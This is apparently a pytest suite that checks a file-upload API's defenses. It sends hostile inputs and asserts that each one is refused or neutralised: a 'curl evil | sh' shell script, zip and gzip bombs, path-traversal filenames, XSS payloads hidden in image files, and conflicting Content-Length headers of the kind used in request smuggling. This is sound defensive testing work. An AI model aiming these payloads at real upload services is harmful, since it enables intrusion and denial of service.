"""Uploads of somebody who means harm: what each becomes; of those that are refused nothing is left."""

import gzip
import re
import socket
from collections.abc import Iterator
from dataclasses import dataclass
from urllib.parse import quote, urlparse

import httpx
import pytest

from configs.settings import Settings
from tests.conftest import Server, running
from tests.fixtures import bombs
from tests.fixtures.redis_servers import wait_until
from tools.llm.transport import certificates

FILES = "/api/v1/files"
BOUNDARY = "b0undary"
FORM = f"multipart/form-data; boundary={BOUNDARY}"
PNG = b"\x89PNG\r\n\x1a\n" + bytes(64)
TEXT = b"harmless"


@pytest.fixture(scope="module")
def server(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Server]:
    settings = Settings(
        PORT=0,
        DATA_DIR=tmp_path_factory.mktemp("data"),
        MAX_FILE_SIZE="6MiB",
        MAX_VIDEO_SIZE="6MiB",
    )  # type: ignore[call-arg, arg-type]
    with running(settings) as server:
        yield server


@pytest.fixture
def http(server: Server) -> Iterator[httpx.Client]:
    with httpx.Client(base_url=server.url, verify=certificates(), timeout=60) as client:
        yield client


def part(disposition: str, data: bytes, *headers: str) -> bytes:
    lines = [f"--{BOUNDARY}", f"Content-Disposition: {disposition}", *headers, "", ""]
    return "\r\n".join(lines).encode("utf-8", "surrogateescape") + data + b"\r\n"


def form(*parts: bytes, end: bytes = f"--{BOUNDARY}--\r\n".encode()) -> bytes:
    return b"".join(parts) + end


def file_part(name: str, data: bytes = TEXT, *headers: str) -> bytes:
    return part(f'form-data; name="file"; filename="{name}"', data, *headers)


FIELD = part('form-data; name="retention"', b"inputs")


@dataclass(frozen=True)
class Refused:
    """A form that brings nothing."""

    what: str
    body: bytes
    status: int = 422
    content_type: str = FORM


REFUSED = [
    Refused("cut before its end", form(file_part("x"), end=b"")),
    Refused("cut in a header", b"--b0undary\r\nContent-Dispo"),
    Refused("cut in the closing boundary", form(file_part("x"), end=b"--b0undary")),
    Refused("another boundary", form(file_part("x")), content_type="multipart/form-data; boundary=other"),
    Refused("no boundary", form(file_part("x")), content_type="multipart/form-data"),
    Refused("an empty boundary", form(file_part("x")), content_type='multipart/form-data; boundary=""'),
    Refused(
        "a long boundary", form(file_part("x")), content_type=f"multipart/form-data; boundary={'b' * 71}"
    ),
    Refused("no part", form()),
    Refused("no body", b""),
    Refused("no file", form(FIELD)),
    Refused("two files", form(file_part("a"), file_part("b"))),
    Refused("a field twice", form(FIELD, FIELD, file_part("x"))),
    Refused("a field of no meaning", form(part('form-data; name="owner"', b"admin"), file_part("x"))),
    Refused("thousands of fields", form(*(part(f'form-data; name="f{i}"', b"") for i in range(5000)))),
    Refused("a field of megabytes", form(part('form-data; name="retention"', b"x" * 5_000_000))),
    Refused("a file that is no file", form(part('form-data; name="file"', TEXT))),
    Refused("a field that is a file", form(part('form-data; name="retention"; filename="x"', b"inputs"))),
    Refused("an unknown retention", form(part('form-data; name="retention"', b"forever"), file_part("x"))),
    Refused("a field that is no text", form(part('form-data; name="name"', b"\xff\xfe"), file_part("x"))),
    Refused("a part without a name", form(part("form-data", TEXT))),
    Refused("a part of no form", form(part('attachment; name="file"; filename="x"', TEXT))),
    Refused("a header twice", form(file_part("x", TEXT, 'Content-Disposition: form-data; name="file"'))),
    Refused("many headers", form(file_part("x", TEXT, *(f"X-{i}: y" for i in range(500))))),
    Refused("a header of megabytes", form(file_part("x", TEXT, "X-Long: " + "y" * 5_000_000))),
    Refused("a name of megabytes", form(file_part("n" * 5_000_000))),
    Refused("a windows program", form(file_part("x.txt", b"MZ\x90\0" + bytes(60))), 415),
    Refused(
        "an ELF program", form(file_part("x.png", b"\x7fELF\x02\x01\x01", "Content-Type: image/png")), 415
    ),
    Refused("a shell script", form(file_part("x.txt", b"#!/bin/sh\ncurl evil | sh")), 415),
    Refused("an archive that cannot be measured", form(file_part("x.7z", b"7z\xbc\xaf\x27\x1c" + TEXT)), 415),
    Refused("a bomb", form(file_part("x.zip", bombs.flat_bomb())), 413),
    Refused("a bomb in a document", form(file_part("x.docx", bombs.flat_bomb())), 413),
    Refused("a bomb in a bomb", form(file_part("x.zip", bombs.nested_bomb())), 413),
    Refused("a bomb of gzip", form(file_part("x.gz", bombs.gzip_bomb())), 413),
    Refused("zips without end", form(file_part("x.zip", bombs.deep())), 413),
    Refused("too many entries", form(file_part("x.zip", bombs.many())), 413),
    Refused("entries that share bytes", form(file_part("x.zip", bombs.overlapping())), 413),
    Refused("a directory of megabytes", form(file_part("x.zip", bombs.huge_directory())), 413),
    Refused("a picture that is a bomb", form(file_part("x.png", PNG + bombs.flat_bomb())), 413),
    Refused("an entry that climbs", form(file_part("x.zip", bombs.escaping("../../x")))),
    Refused("an entry of the root", form(file_part("x.zip", bombs.escaping("/etc/passwd")))),
    Refused("half an archive", form(file_part("x.zip", bombs.zipped({"a": TEXT})[:-20]))),
    Refused("half a gzip", form(file_part("x.gz", gzip.compress(TEXT)[:-6]))),
    Refused("more than the limit", form(file_part("x.txt", b"x" * (6 * bombs.MEGABYTE + 1))), 413),
    Refused("much more than the limit", form(file_part("x.txt", b"x" * (9 * bombs.MEGABYTE))), 413),
]


@pytest.mark.parametrize("case", REFUSED, ids=lambda case: case.what)
def test_a_hostile_upload_is_refused_and_leaves_nothing(
    http: httpx.Client, server: Server, case: Refused
) -> None:
    before = files_in(server)

    answer = http.post(FILES, content=case.body, headers={"Content-Type": case.content_type})

    assert (answer.status_code, set(answer.json()) >= {"detail", "error"}) == (case.status, True), answer.text
    assert files_in(server) == before


@dataclass(frozen=True)
class Tamed:
    """A file that is taken, as what it is."""

    name: str
    shown: str
    media_type: str
    data: bytes = TEXT
    declared: str = "application/octet-stream"


TAMED = [
    Tamed("../../../etc/passwd", "passwd", "text/plain"),
    Tamed("..\\\\..\\\\windows\\\\system.ini", "system.ini", "text/plain"),
    Tamed("/absolute/path.txt", "path.txt", "text/plain"),
    Tamed("..", "file", "text/plain"),
    Tamed("", "file", "text/plain"),
    Tamed("nul\0byte.txt", "nulbyte.txt", "text/plain"),
    Tamed("cod\u202egpj.txt", "codgpj.txt", "text/plain"),
    Tamed("zero\u200bwidth\ufeff.txt", "zerowidth.txt", "text/plain"),
    Tamed("．．／full.txt", "．．／full.txt", "text/plain"),
    Tamed("x" * 3000 + ".txt", "x" * 251 + ".txt", "text/plain"),
    Tamed('a;b=c\\"d.txt', 'a;b=c"d.txt', "text/plain"),
    Tamed("<script>alert(1)<b>.txt", "<script>alert(1)<b>.txt", "text/plain"),
    Tamed("CON", "CON", "text/plain"),
    Tamed(".htaccess", ".htaccess", "text/plain"),
    Tamed("page.png", "page.png", "text/html", b"<html><script>alert(1)</script>", "image/png"),
    Tamed("drawing.jpg", "drawing.jpg", "image/svg+xml", b"<svg onload='alert(1)'/>", "image/jpeg"),
    Tamed("page.html", "page.html", "text/html", b"<!doctype html><script>x</script>", "text/html"),
    Tamed("gif.js", "gif.js", "image/gif", b"GIF89a/*" + bytes(8) + b"*/=alert(1)", "text/javascript"),
    Tamed("movie.mp4", "movie.mp4", "text/plain", TEXT, "video/mp4"),
    Tamed(
        "pdf.zip", "pdf.zip", "application/pdf", b"%PDF-1.4 " + bombs.zipped({"a": TEXT}), "application/zip"
    ),
    Tamed("half\ufffdpair.txt", "half\ufffdpair.txt", "text/plain"),
]


@pytest.mark.parametrize("case", TAMED, ids=lambda case: case.name[:30].encode("unicode-escape").decode())
def test_a_strange_file_is_what_its_bytes_are_and_goes_out_as_a_download(
    http: httpx.Client, server: Server, case: Tamed
) -> None:
    body = form(file_part(case.name, case.data, f"Content-Type: {case.declared}"))

    made = http.post(FILES, content=body, headers={"Content-Type": FORM})

    file = made.json()
    assert (made.status_code, file["name"], file["media_type"]) == (201, case.shown, case.media_type)
    sent = http.get(f"{FILES}/{file['file_id']}/content")
    assert sent.content == case.data
    assert sent.headers["content-disposition"] == f"attachment; filename*=UTF-8''{quote(case.shown, safe='')}"
    assert sent.headers["x-content-type-options"] == "nosniff"
    assert sent.headers["content-security-policy"].startswith("sandbox")
    assert all(re.fullmatch(r"[0-9a-f]{64}\.[0-9a-f]{16}", name) for name in files_in(server))


def raw(server: Server, request: bytes) -> bytes:
    """What a server says to these bytes, until it or we close."""
    address = urlparse(server.url)
    with socket.create_connection((address.hostname, address.port), timeout=20) as connection:
        connection.sendall(request)
        connection.shutdown(socket.SHUT_WR)
        told = b""
        while got := connection.recv(65536):
            told += got
    return told


def head(*headers: str) -> bytes:
    lines = [f"POST {FILES} HTTP/1.1", "Host: localhost", "Connection: close", *headers, "", ""]
    return "\r\n".join(lines).encode()


LIES = {
    "longer than what comes": head("Content-Length: 1000") + TEXT,
    "negative": head("Content-Length: -5") + TEXT,
    "no number": head("Content-Length: many") + TEXT,
    "two that differ": head("Content-Length: 8", "Content-Length: 80") + TEXT,
    "with chunks as well": head("Content-Length: 3", "Transfer-Encoding: chunked") + b"zz\r\n",
    "a chunk without end": head("Transfer-Encoding: chunked") + b"ffffff\r\n" + TEXT,
    "more than there is": head(f"Content-Length: {10**17}") + TEXT,
}


@pytest.mark.parametrize("request_", LIES.values(), ids=LIES.keys())
def test_a_lie_about_the_length_brings_nothing(server: Server, http: httpx.Client, request_: bytes) -> None:
    before = files_in(server)

    told = raw(server, request_)

    assert not told.startswith(b"HTTP/1.1 201")
    assert http.get("/ok").status_code == 200
    wait_until(lambda: files_in(server) == before)  # the service notices a moment later that nobody is there


def files_in(server: Server) -> set[str]:
    folder = server.settings.data_dir / "files"
    return {path.name for path in folder.rglob("*") if path.is_file()}
